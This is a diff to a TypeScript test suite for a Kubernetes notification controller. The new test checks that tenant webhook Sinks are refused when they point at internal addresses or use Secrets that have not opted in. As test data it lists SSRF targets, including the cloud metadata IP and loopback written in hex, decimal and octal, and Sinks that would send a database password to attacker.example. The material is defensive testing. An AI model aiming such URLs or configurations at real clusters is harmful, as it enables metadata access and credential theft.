@@ -35,8 +35,18 @@ const b64 = (s: string) => Buffer.from(s).toString('base64');
 const OBJECTS = `
 apiVersion: v1
 kind: Secret
-metadata: {name: slack, namespace: shop}
+metadata: {name: slack, namespace: shop, labels: {kubeherald.io/sink-credentials: "true"}}
 data: {token: ${b64('xoxb-real-token\n')}}
+---
+apiVersion: v1
+kind: Secret
+metadata: {name: db, namespace: shop}
+data: {password: ${b64('another-apps-db-password')}, hidden-key-name: ${b64('x')}}
+---
+apiVersion: v1
+kind: Secret
+metadata: {name: named, namespace: shop, annotations: {kubeherald.io/sinks: "other-hook, hook-by-name"}}
+data: {token: ${b64('named-token')}}
 ---
 apiVersion: v1
 kind: Secret
@@ -70,7 +80,7 @@ spec:
 apiVersion: kubeherald.io/v1alpha1
 kind: Sink
 metadata: {name: theirs, namespace: other}
-spec: {type: console}
+spec: {type: webhook, target: {url: "https://theirs.example/hook"}}
 ---
 apiVersion: kubeherald.io/v1alpha1
 kind: ClusterSink
@@ -232,6 +242,12 @@ test('a missing Secret: Ready=False naming the secretKeyRef, then Ready once the
   assert.equal(c.message, 'spec.credentials.token.secretKeyRef: Secret "telegram" not found in namespace "shop"');
   const appeared = waitTable(() => controller.sinks().has('Sink/shop/pending'));
   await kubectl.ok(['create', 'secret', 'generic', 'telegram', '-n', 'shop', '--from-literal=token=123:abc']);
+  // a Secret that has not opted in is not used, and none of its keys is named
+  await controller.refresh();
+  const refused = await ready('sink', 'pending', 'shop');
+  assert.equal(refused.reason, 'SecretNotAllowed');
+  assert.doesNotMatch(refused.message, /\btoken\b(?!\.)/);
+  await kubectl.ok(['label', 'secret', 'telegram', '-n', 'shop', 'kubeherald.io/sink-credentials=true']);
   await appeared;
   await controller.settled();
   assert.equal((await ready('sink', 'pending', 'shop')).status, 'True');
@@ -311,7 +327,7 @@ test('a Route naming a Sink that does not exist: Ready=False UnknownSink with th
   assert.deepEqual([c.status, c.reason, c.message], ['False', 'UnknownSink', 'spec.sinks[0]: no Sink "deploy" in namespace "shop"; did you mean "deploys"?']);
   // the Sink may come later: creating it is a change the controller watches, and the Route is evaluated again
   const usable = waitTable((t) => t.routes.some((r) => r.id === 'Route/shop/pager'));
-  await kubectl.ok(['apply', '-f', '-'], ['apiVersion: kubeherald.io/v1alpha1', 'kind: Sink', 'metadata: {name: deploy, namespace: shop}', 'spec: {type: console}', ''].join('\n'));
+  await kubectl.ok(['apply', '-f', '-'], ['apiVersion: kubeherald.io/v1alpha1', 'kind: Sink', 'metadata: {name: deploy, namespace: shop}', 'spec: {type: webhook, target: {url: "https://hooks.example/deploy"}}', ''].join('\n'));
   const t = await usable;
   assert.deepEqual(t.match(note('NodeNotReady', 'shop', 'Pod', 'web-1')).sinks, ['ClusterSink/es', 'Sink/shop/deploy']);
   await controller.settled();
@@ -347,4 +363,62 @@ test('a Route matching a reason or kind nothing produces still routes, its Ready
     await strict.stop();
   }
   await kubectl.ok(['delete', 'route', 'typo', '-n', 'shop']);
+});
+
+test('a tenant Sink is held to least authority: no files, no internal addresses, only Secrets that opted in; a ClusterSink keeps full reach', async () => {
+  const sink = (name: string, spec: string, kind = 'Sink') =>
+    ['apiVersion: kubeherald.io/v1alpha1', `kind: ${kind}`, `metadata: {name: ${name}${kind === 'Sink' ? ', namespace: shop' : ''}}`, `spec: ${spec}`, ''].join('\n');
+  const internal: Record<string, [string, RegExp]> = {
+    'to-metadata': ['http://169.254.169.254/latest/meta-data/', /169\.254\.169\.254 is a metadata address/],
+    'to-apiserver': ['https://127.0.0.1:6443/', /127\.0\.0\.1 is a loopback address/],
+    'to-v6-loopback': ['http://[::1]:8080/', /::1 is a loopback address/],
+    'to-private': ['http://10.0.0.1/', /10\.0\.0\.1 is a private address/],
+    'to-service': ['https://kubernetes.default.svc/', /kubernetes\.default\.svc is a cluster-service name/],
+    'to-hex': ['http://0x7f000001/', /127\.0\.0\.1 is a loopback address/],
+    'to-decimal': ['http://2130706433/', /127\.0\.0\.1 is a loopback address/],
+    'to-octal': ['http://0177.0.0.1/', /127\.0\.0\.1 is a loopback address/],
+    'to-gce-metadata': ['http://metadata.google.internal/', /metadata\.google\.internal is a metadata name/],
+    'to-mapped': ['http://[::ffff:127.0.0.1]/', /is a loopback address/],
+    'to-cgnat': ['http://100.64.0.1/', /carrier-grade NAT/],
+    'to-link-local': ['http://[fe80::1]/', /link-local/],
+    'to-unique-local': ['http://[fd12::1]/', /unique-local/],
+    'to-localhost': ['http://localhost:9200/', /localhost is a loopback name/],
+  };
+  const docs = [
+    ...Object.entries(internal).map(([name, [url]]) => sink(name, `{type: webhook, target: {url: "${url}"}}`)),
+    sink('file', '{type: jsonl, target: {path: /var/lib/kubeherald/state.db}}'),
+    sink('stolen', '{type: webhook, target: {url: "https://attacker.example/"}, credentials: {token: {secretKeyRef: {name: db, key: password}}}}'),
+    sink('stolen-wrong-key', '{type: webhook, target: {url: "https://attacker.example/"}, credentials: {token: {secretKeyRef: {name: db, key: nope}}}}'),
+    sink('hook-by-name', '{type: webhook, target: {url: "https://hooks.example/"}, credentials: {token: {secretKeyRef: {name: named, key: token}}}}'),
+    sink('not-named', '{type: webhook, target: {url: "https://hooks.example/"}, credentials: {token: {secretKeyRef: {name: named, key: token}}}}'),
+    sink('internal-admin', '{type: webhook, target: {url: "http://10.0.0.1/"}}', 'ClusterSink'),
+  ];
+  const done = waitTable(() => controller.sinks().has('Sink/shop/hook-by-name') && controller.sinks().has('ClusterSink/internal-admin'));
+  await kubectl.ok(['apply', '-f', '-'], docs.join('---\n'));
+  await done;
+  await controller.settled();
+  for (const [name, [, why]] of Object.entries(internal)) {
+    const c = await ready('sink', name, 'shop');
+    assert.equal(c.status, 'False', name);
+    assert.equal(c.reason, 'EgressNotAllowed', name);
+    assert.match(c.message, /^spec\.target\.url: /, name);
+    assert.match(c.message, why, name);
+    assert.match(c.message, /customResources\.egress\.allow/, name);
+    assert.ok(!controller.sinks().has(`Sink/shop/${name}`), name);
+  }
+  const file = await ready('sink', 'file', 'shop');
+  assert.equal(file.reason, 'SinkTypeNotAllowed');
+  assert.match(file.message, /^spec\.type: a jsonl Sink writes kubeherald's own files/);
+  for (const name of ['stolen', 'stolen-wrong-key', 'not-named']) {
+    const c = await ready('sink', name, 'shop');
+    assert.equal(c.status, 'False', name);
+    assert.equal(c.reason, 'SecretNotAllowed', name);
+    assert.match(c.message, /kubectl label secret (db|named) -n shop kubeherald\.io\/sink-credentials=true/, name);
+    // neither the value nor any key name of a Secret that did not opt in
+    assert.doesNotMatch(c.message, /password|hidden-key-name|another-apps/, name);
+    assert.ok(!controller.sinks().has(`Sink/shop/${name}`), name);
+  }
+  assert.doesNotMatch(warnings.join('\n'), /hidden-key-name|another-apps-db-password/);
+  assert.deepEqual(controller.sinks().get('Sink/shop/hook-by-name')!.credentials, { token: 'named-token' });
+  assert.equal((await ready('clustersink', 'internal-admin')).status, 'True');
 });
